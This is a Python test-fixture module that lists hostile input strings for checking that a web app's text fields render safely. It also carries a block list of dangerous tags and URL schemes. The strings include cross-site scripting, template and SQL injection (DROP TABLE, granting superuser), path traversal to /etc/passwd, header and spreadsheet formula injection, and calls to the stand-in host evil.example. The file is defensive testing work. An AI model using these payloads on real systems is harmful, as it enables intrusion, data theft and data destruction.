"""Hostile strings for every text field: markup and script, template syntax, SQL, control characters.

Each payload carries a sentinel `XSS<n>` so that a test can find where it ended up. None of them may run
(script, event handler, javascript: URL) or change what the page does; each must be shown as text.
"""

_RAW = [
    "<script>alert('{id}')</script>",
    "<SCRIPT SRC=//evil.example/{id}.js></SCRIPT>",
    "<img src=x onerror=alert('{id}')>",
    "<img src=\"javascript:alert('{id}')\">",
    "<svg onload=alert('{id}')>",
    "<svg><script>alert('{id}')</script></svg>",
    "<body onload=alert('{id}')>",
    "<iframe src=\"javascript:alert('{id}')\"></iframe>",
    "<a href=\"javascript:alert('{id}')\">klicka {id}</a>",
    "[klicka {id}](javascript:alert('{id}'))",
    "[klicka {id}](JaVaScRiPt:alert('{id}'))",
    "[bild {id}](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![bild {id}](https://evil.example/{id}.png)",
    "\"><script>alert('{id}')</script>",
    "'><svg/onload=alert('{id}')>",
    '" onmouseover="alert(\'{id}\')" x="',
    "' onfocus='alert(`{id}`)' autofocus='",
    "<div style=\"background:url(javascript:alert('{id}'))\">{id}</div>",
    "<div style=\"width: expression(alert('{id}'))\">{id}</div>",
    "<style>@import 'https://evil.example/{id}.css';</style>",
    "<link rel=stylesheet href=https://evil.example/{id}.css>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/{id}">',
    '<base href="https://evil.example/{id}/">',
    "<object data=\"javascript:alert('{id}')\"></object>",
    "<embed src=\"javascript:alert('{id}')\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('{id}')>",
    "<form action=https://evil.example/{id}><button>Skicka {id}</button></form>",
    "<input autofocus onfocus=alert('{id}')>",
    "<details open ontoggle=alert('{id}')>",
    "<template><script>alert('{id}')</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('{id}')>\">",
    'hx-get="/admin/" hx-trigger="load" {id}',
    '<div hx-post="/konto/logout/" hx-trigger="load">{id}</div>',
    "<div hx-on:click=\"alert('{id}')\">{id}</div>",
    "{{{{ 7|add:7 }}}} {id}",
    "{{% now 'Y' %}} {id}",
    "{{% load static %}}{{% debug %}} {id}",
    "{{{{ request.user.password }}}} {id}",
    "${{7*7}} #{{7*7}} {id}",
    "' OR '1'='1' -- {id}",
    "'; DROP TABLE plans_plan; -- {id}",
    '" OR 1=1; SELECT * FROM auth_user; -- {id}',
    "1; UPDATE auth_user SET is_superuser=1 -- {id}",
    "%27%20OR%201%3D1 {id}",
    "{id}\x00nollbyte",
    "{id}\u202eRTL-åsidosättning\u202c",
    "{id}\u200b\u200c\u200d\ufeff osynliga tecken",
    "{id} 𝕱𝖎𝖓𝖘𝖆𝖒 🙂 ÅÄÖ åäö ǅ ﷽",
    "{id}\r\nX-Injected: header",
    "{id}" + "A" * 5000,
    "{id}" + "ö" * 2000,
    "../../../../etc/passwd {id}",
    '<img src="file:///etc/passwd"> {id}',
    '<img src="http://127.0.0.1:9/{id}">',
    '=HYPERLINK("https://evil.example/{id}","klicka")',
    "=cmd|' /C calc'!A0 {id}",
    "+SUM(1+1)*cmd|' /C calc'!A0 {id}",
    "@SUM(1+1) {id}",
    "<!--{id}--><script>alert(1)</script>",
    "<![CDATA[<script>alert('{id}')</script>]]>",
]

PAYLOADS: list[str] = [raw.format(id=f"XSS{number:02d}") for number, raw in enumerate(_RAW)]
SENTINELS: list[str] = [f"XSS{number:02d}" for number in range(len(_RAW))]

# Tags and attributes that must never come out of user text (the page's own scripts are checked apart).
DANGEROUS_TAGS = {
    "script", "iframe", "object", "embed", "svg", "math", "base", "meta", "link", "style", "frame",
    "frameset", "applet", "template", "noscript",
}  # fmt: skip
DANGEROUS_URL_SCHEMES = ("javascript:", "vbscript:", "data:text/html")
